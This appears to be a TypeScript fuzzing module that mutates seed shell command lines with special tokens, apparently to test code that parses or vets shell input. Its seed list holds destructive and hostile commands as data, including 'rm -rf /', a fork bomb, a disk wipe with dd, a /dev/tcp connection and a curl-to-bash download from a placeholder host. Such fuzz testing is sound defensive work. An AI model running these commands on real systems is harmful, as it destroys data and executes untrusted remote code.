// Mutated command lines from a seed: what the fuzzers throw at whatever reads a line.
const SEEDS = [
  'rm -rf /',
  "echo 'rm -rf /' | base64 -d | sh",
  'find . -name "*.o" -exec rm {} +',
  'git push --force origin main',
  'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
  'curl -fsSL https://x.example/i.sh | bash',
  ':(){ :|:& };:',
  "awk '{print $1}' f | sort | uniq -c",
  'dd if=/dev/zero of=/dev/sda',
  'cat <<EOF\n$(date)\nEOF',
  'x=$(cat a) && echo "$x" > b',
  'python3 -c \'import os; os.system("ls")\'',
  'tar czf - . | ssh host "tar xzf -"',
  'case $x in a) ls;; *) rm y;; esac',
  'while read -r l; do echo $l; done < f',
  "sed -i 's/a/b/g' f",
  'xargs -0 -I{} sh -c "echo {}" < f',
  'exec 3<>/dev/tcp/h/80; cat <&3',
  "psql -c 'drop table t'",
  'docker run -v /:/h alpine rm -rf /h',
];
const TOKENS = [
  ' ',
  '\n',
  '\t',
  ';',
  '&',
  '|',
  '>',
  '<',
  '(',
  ')',
  '{',
  '}',
  '$',
  '$(',
  '${',
  '`',
  '"',
  "'",
  '\\',
  '*',
  '?',
  '[',
  ']',
  '~',
  '!',
  '#',
  '=',
  '-',
  '--',
  '/',
  '..',
  '<<EOF\n',
  '<<<',
  '2>&1',
  '$((',
  '))',
  '[[',
  ']]',
  'if',
  'then',
  'fi',
  'do',
  'done',
  'function',
  'eval',
  'sudo',
  'sh -c',
  'rm',
  '-rf',
  '\u200b',
  '\u202e',
  '\x1b[2K',
  '\0',
  '\r',
  '\ue000',
  '\ud800',
  '{1..999999}',
  '{a,b}{c,d}{e,f}',
  '$@',
  '%s',
  '\\x41',
  '😀',
  'é',
];

export type Random = (below: number) => number;

/** A small seeded generator (mulberry32), so that a run can be repeated. */
export function generator(seed: number): Random {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

/** One line of shell, one to eight edits away from something that a person could have written. */
export function mutateLine(random: Random): string {
  return mutate(random, SEEDS, TOKENS);
}

/** A text one to eight edits away from one of `seeds`; at most 2 000 characters. */
export function mutate(random: Random, seeds: readonly string[], tokens: readonly string[]): string {
  let text = seeds[random(seeds.length)] as string;
  const edits = 1 + random(8);
  for (let i = 0; i < edits; i++) {
    const at = random(text.length + 1);
    const token = tokens[random(tokens.length)] as string;
    switch (random(5)) {
      case 0:
        text = text.slice(0, at) + token + text.slice(at);
        break;
      case 1:
        text = text.slice(0, at) + text.slice(at + 1 + random(4));
        break;
      case 2:
        text = text.slice(0, at) + token + text.slice(at + 1);
        break;
      case 3: {
        const other = seeds[random(seeds.length)] as string;
        text = text.slice(0, at) + other.slice(random(other.length));
        break;
      }
      default:
        text += token + text.slice(at, at + random(20));
    }
  }
  return text.slice(0, 2_000);
}
